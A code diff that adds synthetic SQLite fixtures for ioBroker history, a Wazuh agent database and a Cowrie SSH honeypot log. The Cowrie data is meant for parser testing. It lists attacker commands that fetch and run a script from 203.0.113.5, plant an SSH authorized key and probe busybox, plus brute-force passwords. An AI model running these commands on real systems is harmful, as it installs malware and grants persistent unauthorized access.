@@ -78820,3 +78820,452 @@ def logseq_rows() -> dict[str, list[tuple[Any, ...]]]:
 def logseq(path: Path) -> Path:
     """A Logseq DB graph's ``db.sqlite`` (see the module's list)."""
     return write_export(path, LOGSEQ_DDL, logseq_rows())
+
+
+# --- ioBroker's SQL history adapter on SQLite (lib/sqlite.js of ioBroker/ioBroker.sql at ca7f43a: its
+# init() DDL and insert(), which builds each INSERT's text from the state) ---
+#
+# ``datapoints`` names every logged state (``type`` 0 number, 1 string, 2 boolean) and ``sources`` every
+# adapter instance that wrote one; each value goes to ``ts_number``, ``ts_string`` or ``ts_bool`` keyed
+# by ``(id, ts)``: ``id`` the datapoint's, ``ts`` the state's JavaScript time (epoch milliseconds),
+# ``ack`` ``state.ack ? 1 : 0`` under ``BOOLEAN``, ``_from`` the source's id or ``from || 0`` (0 for a
+# state no adapter wrote), ``q`` ioBroker's quality code (0 good, 0x02 no connection, 0x40 substitute
+# initial value, 0x42 device reports no connection). A number is spliced into the SQL as JavaScript
+# prints it, stored REAL by the column's affinity (whole numbers too, ``100.0``); a JavaScript ``null``
+# is NULL; a string goes in quoted and stays TEXT even where it reads as a number (``'22.5'``); a
+# boolean is ``state.val ? 1 : 0`` under ``BOOLEAN``.
+IOBROKER_DDL = [
+    "CREATE TABLE sources    (id INTEGER NOT NULL PRIMARY KEY AUTOINCREMENT, name TEXT);",
+    "CREATE TABLE datapoints (id INTEGER NOT NULL PRIMARY KEY AUTOINCREMENT, name TEXT, type INTEGER);",
+    "CREATE TABLE ts_number  (id INTEGER, ts INTEGER, val REAL,    ack BOOLEAN, _from INTEGER, q INTEGER, "
+    "PRIMARY KEY(id, ts));",
+    "CREATE TABLE ts_string  (id INTEGER, ts INTEGER, val TEXT,    ack BOOLEAN, _from INTEGER, q INTEGER, "
+    "PRIMARY KEY(id, ts));",
+    "CREATE TABLE ts_bool    (id INTEGER, ts INTEGER, val BOOLEAN, ack BOOLEAN, _from INTEGER, q INTEGER, "
+    "PRIMARY KEY(id, ts));",
+]
+
+IOBROKER_SOURCES = [
+    "system.adapter.hm-rpc.0",
+    "system.adapter.javascript.0",
+    "system.adapter.shelly.0",
+    "system.adapter.zigbee.0",
+    "system.adapter.admin.0",
+    "system.adapter.daswetter.0",
+]
+
+#: The logged states: id, type (0 number, 1 string, 2 boolean), the source writing it (0: none).
+IOBROKER_DATAPOINTS: list[tuple[str, int, int]] = [
+    ("hm-rpc.0.MEQ0123456.1.TEMPERATURE", 0, 1),
+    ("hm-rpc.0.MEQ0123456.1.HUMIDITY", 0, 1),
+    ("hm-rpc.0.MEQ0987654.1.STATE", 2, 1),
+    ("javascript.0.Anwesenheit.Status", 1, 2),
+    ("hm-rpc.0.000A18A9B7C3F2.4.SET_POINT_TEMPERATURE", 0, 1),
+    ("shelly.0.SHSW-25#C45BBE7810AB#1.Relay0.Switch", 2, 3),
+    ("shelly.0.SHSW-25#C45BBE7810AB#1.Relay0.Power", 0, 3),
+    ("daswetter.0.NextHours.Location_1.Day_1.current.symbol_desc", 1, 6),
+    ("shelly.0.SHSW-25#C45BBE7810AB#1.Relay0.Energy", 0, 3),
+    ("zigbee.0.00158d00045a1b2c.battery", 0, 4),
+    ("zigbee.0.00158d00045a1b2c.available", 2, 4),
+    ("zigbee.0.00158d00045a1b2c.last_seen", 1, 4),
+    ("javascript.0.Verbrauch.Strom_Heute", 0, 2),
+    ("hm-rpc.0.000A18A9B7C3F2.0.FIRMWARE", 1, 1),
+    ("daswetter.0.NextHours.Location_1.Day_1.current.Temperature", 0, 6),
+    ("javascript.0.Urlaub.aktiv", 2, 0),
+]
+
+IOBROKER_WEATHER = ["sonnig", "leicht bewölkt", "Leichter Regen", "bedeckt", "Nebel", "Gewitter", ""]
+IOBROKER_PRESENCE = [
+    "zuhause",
+    "abwesend",
+    "Urlaub",
+    "22.5",
+    "0",
+    '{"wer":["Anna","Jörg"],"seit":1716192000}',
+]
+
+
+def iobroker_rows() -> dict[str, list[tuple[Any, ...]]]:
+    """A morning of a house's history: thermostats, a relay's power and energy, a Zigbee sensor, the
+    weather, presence scripts; values every few minutes per state, some no adapter wrote."""
+    start = 1_716_188_400_000  # 2024-05-20 07:00:00 UTC in JavaScript milliseconds
+    numbers: list[tuple[Any, ...]] = []
+    strings: list[tuple[Any, ...]] = []
+    bools: list[tuple[Any, ...]] = []
+    for point, (_, kind, source) in enumerate(IOBROKER_DATAPOINTS, start=1):
+        count = [30, 22, 26, 12, 10, 20, 36, 18, 24, 8, 12, 14, 20, 3, 16, 6][point - 1]
+        for k in range(count):
+            ts = start + k * (300_000 + point * 7_919) + (point * 104_729 + k * 613) % 60_000
+            ack = 0 if (source in (0, 2) and k % 3 == 1) else 1
+            q = 0x42 if (source == 4 and k % 5 == 4) else 0x40 if k == 0 and source == 1 else 0
+            frm = source
+            if kind == 0:
+                val: Any = {
+                    1: round(19.5 + (k * 7 % 31) / 10, 1),
+                    2: float(40 + k * 3 % 27),
+                    5: [17.5, 21.0, 5.0][k % 3],
+                    7: round(k * 37.3 % 2300, 2),
+                    9: round(1234.567 + k * 0.1235, 4),
+                    10: float(100 - k),
+                    13: round(k * 0.1 + 0.2, 3),
+                    15: round(14.3 + k * 0.7, 1),
+                }[point]
+                if point == 10 and q:
+                    val = None
+                numbers.append((point, ts, val, ack, frm, q))
+            elif kind == 1:
+                if point == 8:
+                    val = IOBROKER_WEATHER[k % len(IOBROKER_WEATHER)]
+                elif point == 12:
+                    moment = datetime.fromtimestamp(ts / 1000 - 40, UTC)
+                    val = moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ts % 1000:03d}Z"
+                elif point == 4:
+                    val = IOBROKER_PRESENCE[k % len(IOBROKER_PRESENCE)]
+                else:
+                    val = ["2.8.6", "2.8.6", "2.9.8"][k]
+                strings.append((point, ts, val, ack, frm, q))
+            else:
+                bools.append((point, ts, int((k * 5 + point) % 3 == 0), ack, frm, q))
+    return {
+        "sources": [(n, name) for n, name in enumerate(IOBROKER_SOURCES, start=1)],
+        "datapoints": [(n, name, kind) for n, (name, kind, _) in enumerate(IOBROKER_DATAPOINTS, start=1)],
+        "ts_number": numbers,
+        "ts_string": strings,
+        "ts_bool": bools,
+    }
+
+
+def iobroker(path: Path) -> Path:
+    """An ioBroker SQL history adapter's SQLite file (see the comment above :data:`IOBROKER_DDL`)."""
+    return write_export(path, IOBROKER_DDL, iobroker_rows())
+
+
+# --- A Wazuh manager's global.db (src/wazuh_db/schema_global.sql of wazuh/wazuh at 033cb57b, db_version 3;
+# rows as wazuh-db's global queries write them: an agent inserted by the enrolment, updated by its
+# keepalives, grouped through ``belongs``) ---
+#
+# The manager is agent 0, inserted by the schema itself: ``date_add`` ``strftime('%s','now')`` (text the
+# INTEGER affinity makes a number), ``last_keepalive`` 253402300799 (9999-12-31 23:59:59 UTC, "never
+# disconnects"), ``group`` NULL. An enrolled agent's ``ip`` and ``register_ip`` are the enrolment's
+# (``any`` unless enrolled from a fixed address or network); its first keepalive fills the OS fields as
+# the agent reports them (``os_major`` / ``os_minor`` text, Ubuntu's minor ``04``; Windows' build
+# ``19045.3930`` with its trailing zero; ``os_uname`` fields joined by `` |``), ``version``, the sums
+# (md5 hex), ``manager_host`` and ``node_name``, ``last_keepalive`` Unix seconds, ``connection_status``
+# ``active``; a lost one turns ``disconnected`` with ``disconnection_time`` its seconds, which is ``0``
+# otherwise. An agent never connected keeps NULL there and ``never_connected``. ``group`` is the
+# agent's groups joined by commas, in ``belongs``' order, ``belongs`` keyed by both ids; ``labels`` the
+# labels an agent's configuration sends, keyed by (agent, key).
+WAZUH_DDL = [
+    "CREATE TABLE IF NOT EXISTS agent (\n    id INTEGER PRIMARY KEY,\n    name TEXT NOT NULL,\n    ip TEXT,\n"
+    "    register_ip TEXT,\n    internal_key TEXT,\n    os_name TEXT,\n    os_version TEXT,\n"
+    "    os_major TEXT,\n    os_minor TEXT,\n    os_codename TEXT,\n    os_build TEXT,\n"
+    "    os_platform TEXT,\n"
+    "    os_uname TEXT,\n    os_arch TEXT,\n    version TEXT,\n    config_sum TEXT,\n    merged_sum TEXT,\n"
+    "    manager_host TEXT,\n    node_name TEXT DEFAULT 'unknown',\n    date_add INTEGER NOT NULL,\n"
+    "    last_keepalive INTEGER,\n    `group` TEXT DEFAULT 'default',\n"
+    "    sync_status TEXT NOT NULL CHECK (sync_status IN ('synced', 'syncreq')) DEFAULT 'synced',\n"
+    "    connection_status TEXT NOT NULL CHECK (connection_status IN ('pending', 'never_connected', "
+    "'active', 'disconnected')) DEFAULT 'never_connected',\n    disconnection_time INTEGER DEFAULT 0\n)",
+    "CREATE INDEX IF NOT EXISTS agent_name ON agent (name)",
+    "CREATE INDEX IF NOT EXISTS agent_ip ON agent (ip)",
+    "CREATE TABLE IF NOT EXISTS labels (\n    id INTEGER,\n    key TEXT NOT NULL,\n    value TEXT NOT NULL,\n"
+    "    PRIMARY KEY (id,key)\n)",
+    "CREATE TABLE IF NOT EXISTS info (\n    key TEXT PRIMARY KEY,\n    value TEXT\n)",
+    "CREATE TABLE IF NOT EXISTS `group` (\n    id INTEGER PRIMARY KEY AUTOINCREMENT,\n    name TEXT\n)",
+    "CREATE TABLE IF NOT EXISTS belongs (\n    id_agent INTEGER,\n    id_group INTEGER,\n"
+    "    PRIMARY KEY (id_agent, id_group)\n)",
+    "CREATE TABLE IF NOT EXISTS metadata (\n    key TEXT PRIMARY KEY,\n    value TEXT\n)",
+]
+
+WAZUH_AGENT_COLUMNS = ["id", "name", "ip", "register_ip", "internal_key", "os_name", "os_version", "os_major",
+                       "os_minor", "os_codename", "os_build", "os_platform", "os_uname", "os_arch", "version",
+                       "config_sum", "merged_sum", "manager_host", "node_name", "date_add", "last_keepalive",
+                       "group", "sync_status", "connection_status", "disconnection_time"]  # fmt: skip
+
+#: The operating systems agents report: name, version, major, minor, codename, build, platform, uname
+#: (``{host}`` for the agent's name), arch.
+WAZUH_SYSTEMS: list[tuple[Any, ...]] = [
+    ("Ubuntu", "22.04.3 LTS (Jammy Jellyfish)", "22", "04", "Jammy Jellyfish", None, "ubuntu",
+     "Linux |{host} |5.15.0-91-generic |#101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 |x86_64", "x86_64"),
+    ("Ubuntu", "20.04.6 LTS (Focal Fossa)", "20", "04", "Focal Fossa", None, "ubuntu",
+     "Linux |{host} |5.4.0-169-generic |#187-Ubuntu SMP Thu Nov 23 14:52:28 UTC 2023 |x86_64", "x86_64"),
+    ("Microsoft Windows Server 2019 Datacenter", "10.0.17763.5329", "10", "0", None, "17763.5329", "windows",
+     "Microsoft Windows Server 2019 Datacenter", "x86_64"),
+    ("Microsoft Windows 10 Pro", "10.0.19045.3930", "10", "0", None, "19045.3930", "windows",
+     "Microsoft Windows 10 Pro", "x86_64"),
+    ("Red Hat Enterprise Linux", "9.3", "9", "3", "Plow", None, "rhel",
+     "Linux |{host} |5.14.0-362.13.1.el9_3.x86_64 |#1 SMP PREEMPT_DYNAMIC Fri Nov 24 01:57:57 EST 2023 "
+     "|x86_64",
+     "x86_64"),
+    ("Debian GNU/Linux", "12", "12", None, "bookworm", None, "debian",
+     "Linux |{host} |6.1.0-17-amd64 |#1 SMP PREEMPT_DYNAMIC Debian 6.1.69-1 (2023-12-30) |x86_64", "x86_64"),
+    ("macOS", "14.2.1", "14", "2", "Sonoma", "23C71", "darwin",
+     "Darwin |{host} |23.2.0 |Darwin Kernel Version 23.2.0: Wed Nov 15 21:53:18 PST 2023 |arm64", "arm64"),
+    ("CentOS Stream", "9", "9", None, None, None, "centos",
+     "Linux |{host} |5.14.0-391.el9.x86_64 |#1 SMP PREEMPT_DYNAMIC Tue Nov 28 20:35:49 UTC 2023 |x86_64",
+     "x86_64"),
+]  # fmt: skip
+
+WAZUH_GROUPS = ["default", "linux", "windows", "webservers", "dbservers", "pci-dss", "macos"]
+
+
+def wazuh_rows() -> dict[str, list[tuple[Any, ...]]]:
+    """A manager of a small fleet: Linux, Windows and macOS agents, most active, a few disconnected or
+    never connected, their groups and labels."""
+    installed = 1_704_792_131  # 2024-01-09 09:22:11 UTC
+    now = installed + 86_400 * 41 + 3_611
+    manager_sys = WAZUH_SYSTEMS[0]
+    agents: list[tuple[Any, ...]] = [
+        (0, "wazuh-manager", "127.0.0.1", "127.0.0.1", None, *manager_sys[:7],
+         manager_sys[7].format(host="wazuh-manager"), manager_sys[8], "Wazuh v4.7.2", None, None,
+         "wazuh-manager", "node01", installed, 253402300799, None, "synced", "active", 0)
+    ]  # fmt: skip
+    belongs: list[tuple[int, int]] = []
+    labels: list[tuple[int, str, str]] = []
+    #: Each agent's host name and operating system (an index of :data:`WAZUH_SYSTEMS`).
+    hosts = [("web01", 0), ("web02", 0), ("web03", 1), ("db01", 4), ("db02", 5), ("dc01", 2), ("ws-anna", 3),
+             ("ws-joerg", 3), ("build-mac", 6), ("mail01", 5), ("proxy01", 1), ("vpn01", 7), ("jenkins", 0),
+             ("nas", 5), ("print-srv", 2), ("ws-lea", 3), ("kiosk-01", 3), ("backup01", 2), ("mon01", 7),
+             ("git01", 4), ("ws-test", 6), ("lab-rhel", 4), ("db03", 4), ("web04", 0)]  # fmt: skip
+    for n, (host, os_index) in enumerate(hosts, start=1):
+        system = WAZUH_SYSTEMS[os_index]
+        added = installed + 3_600 * n + (n * 977) % 3_600
+        enrolled = "any" if n % 4 else f"10.20.{n % 3}.{10 + n}"
+        key = hashlib.sha256(f"wazuh-key-{n}".encode()).hexdigest()
+        never = n in (7, 17, 21)
+        lost = n in (4, 12, 19)
+        groups = ["default"] + {
+            "ubuntu": ["linux", "webservers"] if host.startswith("web") else ["linux"],
+            "windows": ["windows"],
+            "rhel": ["linux", "dbservers", "pci-dss"] if host.startswith("db") else ["linux"],
+            "debian": ["linux", "dbservers"] if host.startswith("db") else ["linux"],
+            "darwin": ["macos"],
+            "centos": ["linux"],
+        }[system[6]]
+        if never:
+            agents.append(
+                (n, host, enrolled, enrolled, key, *[None] * 9, None, None, None, None, "unknown", added,
+                 None, ",".join(groups), "synced", "never_connected", 0)
+            )  # fmt: skip
+        else:
+            seen = now - (86_400 * (n % 9) + n * 311 if lost else (n * 17) % 60)
+            version = "Wazuh v4.7.2" if n % 6 else "Wazuh v4.5.4"
+            agents.append(
+                (n, host, f"10.20.{n % 3}.{10 + n}", enrolled, key, *system[:7], system[7].format(host=host),
+                 system[8], version, hashlib.md5(f"{n}-config".encode()).hexdigest(),
+                 hashlib.md5(",".join(groups).encode()).hexdigest(), "wazuh-manager", "node01", added, seen,
+                 ",".join(groups), "syncreq" if n % 10 == 3 else "synced",
+                 "disconnected" if lost else "active", seen + 600 if lost else 0)
+            )  # fmt: skip
+        belongs.extend((n, WAZUH_GROUPS.index(group) + 1) for group in groups)
+        if never:
+            continue
+        if host.startswith(("web", "db")):
+            labels.append((n, "aws.instance-id", f"i-0{hashlib.md5(host.encode()).hexdigest()[:16]}"))
+            labels.append((n, "aws.region", "eu-central-1"))
+        if n % 5 == 0:
+            labels.append((n, "environment", "production" if n % 10 else "staging"))
+        if system[6] == "windows":
+            labels.append((n, "owner", "IT-Betrieb Zürich"))
+    return {
+        "agent": agents,
+        "labels": labels,
+        "info": [],
+        "group": [(n, name) for n, name in enumerate(WAZUH_GROUPS, start=1)],
+        "belongs": belongs,
+        "metadata": [("db_version", "3")],
+    }
+
+
+def wazuh(path: Path) -> Path:
+    """A Wazuh manager's ``queue/db/global.db`` (see the comment above :data:`WAZUH_DDL`)."""
+    return write_export(path, WAZUH_DDL, wazuh_rows())
+
+
+# --- A Cowrie SSH honeypot's SQLite output (docs/sql/sqlite3.sql of cowrie/cowrie at 4a3ea47; rows as
+# src/cowrie/output/sqlite.py writes each event, the event's ``timestamp`` as cowrie.core.output's
+# emit() formats it and the session id as ssh/transport.py draws it) ---
+#
+# A session's id is ``uuid.uuid4().hex[:12]`` (12 hex digits: now and then all digits, led by a zero, or
+# digits around one ``e``); every event's ``timestamp`` is Twisted's ``formatTime`` of its time with
+# ``%Y-%m-%dT%H:%M:%S.%f%z`` in the sensor's local zone (``+0100`` / ``+0200``, no colon), ``Z`` only
+# when the process runs with ``TZ=UTC``. ``sensors`` and ``clients`` are looked up or inserted by the
+# sensor's name and the client's version (``repr`` of the version's bytes: ``b'SSH-2.0-Go'``); a session
+# row is inserted on connect (``endtime``, ``termsize`` and ``client`` NULL) and updated as the client
+# reports them. A failed or successful login is an ``auth`` row (``success`` 0/1), a command an ``input``
+# row (``success`` 1, or 0 for a command the shell does not know; ``realm`` NULL), a download a
+# ``downloads`` row (a failed one with ``outfile`` and ``shasum`` NULL, an upload with ``url`` ``''``), a
+# forwarding request an ``ipforwards`` row and its data the ``repr`` of its bytes.
+COWRIE_DDL = [
+    "CREATE TABLE IF NOT EXISTS `auth` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `success` tinyint(1) NOT NULL,\n  `username` varchar(100) NOT NULL,\n"
+    "  `password` varchar(100) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `clients` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `version` varchar(50) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `input` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `realm` varchar(50) default NULL,\n"
+    "  `success` tinyint(1) default NULL,\n"
+    "  `input` text NOT NULL\n) ",
+    "CREATE INDEX input_index ON input(session, timestamp, realm)",
+    "CREATE TABLE IF NOT EXISTS `sensors` (\n  `id` INTEGER PRIMARY KEY,\n  `ip` varchar(61) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `sessions` (\n  `id` char(32) NOT NULL PRIMARY KEY,\n"
+    "  `starttime` datetime NOT NULL,\n"
+    "  `endtime` datetime default NULL,\n  `sensor` int(4) NOT NULL,\n"
+    "  `ip` varchar(61) NOT NULL default '',\n"
+    "  `termsize` varchar(7) default NULL,\n  `client` int(4) default NULL\n) ",
+    "CREATE INDEX sessions_index ON sessions(starttime, sensor)",
+    "CREATE TABLE IF NOT EXISTS `ttylog` (\n  `id` INTEGER PRIMARY KEY,\n  `session` char(32) NOT NULL,\n"
+    "  `ttylog` varchar(100) NOT NULL,\n  `size` int(11) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `downloads` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `url` text NOT NULL,\n  `outfile` text default NULL,\n"
+    "  `shasum` varchar(64) default NULL\n) ",
+    "CREATE INDEX downloads_index ON downloads(session, timestamp)",
+    "CREATE TABLE IF NOT EXISTS `keyfingerprints` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `username` varchar(100) NOT NULL,\n  `fingerprint` varchar(100) NOT NULL\n) ",
+    "CREATE TABLE IF NOT EXISTS `params` (\n  `id` INTEGER PRIMARY KEY,\n  `session` CHAR( 32 ) NOT NULL,\n"
+    "  `arch` varchar(32) NOT NULL\n) ",
+    "CREATE INDEX arch_index ON params(arch)",
+    "CREATE TABLE IF NOT EXISTS `ipforwards` (\n  `id` INTEGER PRIMARY KEY,\n  `session` CHAR(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `dst_ip` varchar(255) NOT NULL default '',\n"
+    "  `dst_port` int(5) NOT NULL,\n"
+    "  FOREIGN KEY(`session`) REFERENCES `sessions`(`id`)\n) ",
+    "CREATE TABLE IF NOT EXISTS `ipforwardsdata` (\n  `id` INTEGER PRIMARY KEY,\n"
+    "  `session` CHAR(32) NOT NULL,\n"
+    "  `timestamp` datetime NOT NULL,\n  `dst_ip` varchar(255) NOT NULL default '',\n"
+    "  `dst_port` int(5) NOT NULL,\n"
+    "  `data` text NOT NULL,\n  FOREIGN KEY(`session`) REFERENCES `sessions`(`id`)\n) ",
+]
+
+COWRIE_CLIENTS = ["b'SSH-2.0-Go'", "b'SSH-2.0-libssh_0.9.6'", "b'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6'",
+                  "b'SSH-2.0-PuTTY_Release_0.80'", "b'SSH-2.0-paramiko_3.4.0'", "b'SSH-2.0-libssh2_1.10.0'",
+                  "b'SSH-2.0-ZGrab ZGrab SSH Survey'"]  # fmt: skip
+#: Credentials tried (username, password): digits led by zeros, an empty password, one padded, non-ASCII.
+COWRIE_CREDENTIALS = [("root", "123456"), ("root", "root"), ("admin", "admin"), ("root", "000000"),
+                      ("ubnt", "ubnt"), ("pi", "raspberry"), ("root", ""), ("support", "support"),
+                      ("root", "0000"), ("user", "user123"), ("oracle", "oracle"), ("root", "P@ssw0rd"),
+                      ("git", "git"), ("root", "admin "), ("test", "test"), ("root", "Passwort123!"),
+                      ("root", "1qaz2wsx"), ("admin", "00123456"), ("root", "пароль"),
+                      ("hadoop", "hadoop")]  # fmt: skip
+COWRIE_COMMANDS = [("uname -a", 1), ("cat /proc/cpuinfo | grep name | wc -l", 1), ("enable", 0),
+                   ("system", 0), ("shell", 0), ("sh", 1),
+                   ("free -m | grep Mem | awk '{print $2 ,$3, $4}'", 1),
+                   ("ls -lh $(which ls)", 1), ("crontab -l", 1), ("w", 1), ("echo -e \"\\x6F\\x6B\"", 1),
+                   ("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa "
+                    "AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh "
+                    "&& cd ~", 1),
+                   ("cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh", 1),
+                   ("nproc", 0), ("lscpu | grep Model", 1), ("/bin/busybox BOTNET", 0)]  # fmt: skip
+COWRIE_ARCHES = ["linux-x64-lsb", "linux-arm-lsb", "linux-mips-msb", "linux-x86-lsb", "linux-aarch64-lsb"]
+
+
+def cowrie_session_id(n: int) -> str:
+    """Session ``n``'s id: 12 hex digits as ``uuid4().hex[:12]`` draws them, two of them as it sometimes
+    does: all digits led by a zero, digits around one ``e``."""
+    return {17: "062514790833", 58: "3e5170021468"}.get(n) or hashlib.md5(f"cowrie-{n}".encode()).hexdigest()[
+        :12
+    ]
+
+
+def cowrie_rows() -> dict[str, list[tuple[Any, ...]]]:
+    """Four days of a honeypot in Frankfurt across the spring change to summer time: scanners, brute
+    forcers, a few bots that log in, run commands and fetch their payloads."""
+    zone = ZoneInfo("Europe/Berlin")
+    start = datetime(2024, 3, 29, 21, 4, 17, 512_331, tzinfo=UTC)
+
+    def stamp(moment: datetime) -> str:
+        return moment.astimezone(zone).strftime("%Y-%m-%dT%H:%M:%S.%f%z")
+
+    sessions: list[tuple[Any, ...]] = []
+    auth: list[tuple[Any, ...]] = []
+    inputs: list[tuple[Any, ...]] = []
+    ttylog: list[tuple[Any, ...]] = []
+    downloads: list[tuple[Any, ...]] = []
+    fingerprints: list[tuple[Any, ...]] = []
+    params: list[tuple[Any, ...]] = []
+    forwards: list[tuple[Any, ...]] = []
+    forward_data: list[tuple[Any, ...]] = []
+    clients_seen: list[str] = []
+    for n in range(1, 121):
+        sid = cowrie_session_id(n)
+        moment = start + timedelta(minutes=47 * n + (n * 13) % 29, microseconds=(n * 104_729) % 1_000_000)
+        ip = f"{[45, 103, 185, 218, 61, 193][n % 6]}.{(n * 37) % 256}.{(n * 11) % 256}.{(n * 7) % 250 + 3}"
+        sensor = 1 if n <= 70 else 2
+        client = None
+        if n % 9:
+            version = COWRIE_CLIENTS[(n * 3) % len(COWRIE_CLIENTS)]
+            if version not in clients_seen:
+                clients_seen.append(version)
+            client = clients_seen.index(version) + 1
+        clock = moment + timedelta(seconds=1, microseconds=250_117)
+        logged_in = False
+        if n % 11 == 5:
+            fingerprints.append(
+                (len(fingerprints) + 1, sid, "root",
+                 ":".join(hashlib.md5(f"key-{n}".encode()).hexdigest()[i : i + 2] for i in range(0, 32, 2)))
+            )  # fmt: skip
+        for k in range(0 if n % 9 == 0 else 1 + (n * 7) % 5):
+            username, password = COWRIE_CREDENTIALS[(n * 3 + k * 7) % len(COWRIE_CREDENTIALS)]
+            success = int(username == "root" and password not in ("root", "123456") and k == (n * 7) % 5)
+            auth.append((len(auth) + 1, sid, success, username, password, stamp(clock)))
+            clock += timedelta(seconds=2 + k % 3, microseconds=(n * k * 7_919) % 1_000_000)
+            logged_in = logged_in or bool(success)
+        termsize = None
+        if logged_in:
+            params.append((len(params) + 1, sid, COWRIE_ARCHES[n % len(COWRIE_ARCHES)]))
+            termsize = None if n % 3 == 0 else ["80x24", "200x50", "211x51"][n % 3]
+            for c in range(2 + n % 6):
+                command, known = COWRIE_COMMANDS[(n + c * 5) % len(COWRIE_COMMANDS)]
+                clock += timedelta(seconds=1 + c, microseconds=(n * c * 613) % 1_000_000)
+                inputs.append((len(inputs) + 1, sid, stamp(clock), None, known, command))
+                if "wget" in command:
+                    url = ["http://203.0.113.5/bins.sh", "http://198.51.100.23:8080/x86_64"][n % 2]
+                    digest = hashlib.sha256(f"payload-{n}".encode()).hexdigest()
+                    ok = n % 4 != 0
+                    downloads.append(
+                        (len(downloads) + 1, sid, stamp(clock + timedelta(seconds=2)), url,
+                         f"var/lib/cowrie/downloads/{digest}" if ok else None, digest if ok else None)
+                    )  # fmt: skip
+            if len(params) % 4 == 2:
+                digest = hashlib.sha256(f"upload-{n}".encode()).hexdigest()
+                downloads.append(
+                    (len(downloads) + 1, sid, stamp(clock + timedelta(seconds=4)), "",
+                     f"var/lib/cowrie/downloads/{digest}", digest)
+                )  # fmt: skip
+            ttylog.append(
+                (len(ttylog) + 1, sid,
+                 f"var/lib/cowrie/tty/{hashlib.sha256(f'tty-{n}'.encode()).hexdigest()}",
+                 1_024 + (n * 317) % 9_000)
+            )  # fmt: skip
+        if n % 13 == 4:
+            host, port = [("ifconfig.me", 80), ("www.google.com", 443), ("93.184.216.34", 80),
+                          ("smtp.gmail.com", 25)][n % 4]  # fmt: skip
+            clock += timedelta(seconds=1)
+            forwards.append((len(forwards) + 1, sid, stamp(clock), host, port))
+            if port == 80:
+                payload = f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/7.68.0\r\nAccept: */*\r\n\r\n"
+                forward_data.append(
+                    (len(forward_data) + 1, sid, stamp(clock), host, port, repr(payload.encode()))
+                )
+        end = None if n > 118 else stamp(clock + timedelta(seconds=3 + n % 40, microseconds=n * 4_111))
+        sessions.append((sid, stamp(moment), end, sensor, ip, termsize, client))
+    return {
+        "auth": auth,
+        "clients": [(c, version) for c, version in enumerate(clients_seen, start=1)],
+        "input": inputs,
+        "sensors": [(1, "hp-fra1"), (2, "hp-fra1.honeynet.example")],
+        "sessions": sessions,
+        "ttylog": ttylog,
+        "downloads": downloads,
+        "keyfingerprints": fingerprints,
+        "params": params,
+        "ipforwards": forwards,
+        "ipforwardsdata": forward_data,
+    }
+
+
+def cowrie(path: Path) -> Path:
+    """A Cowrie honeypot's ``var/lib/cowrie/cowrie.db`` (see the comment above :data:`COWRIE_DDL`)."""
+    return write_export(path, COWRIE_DDL, cowrie_rows())
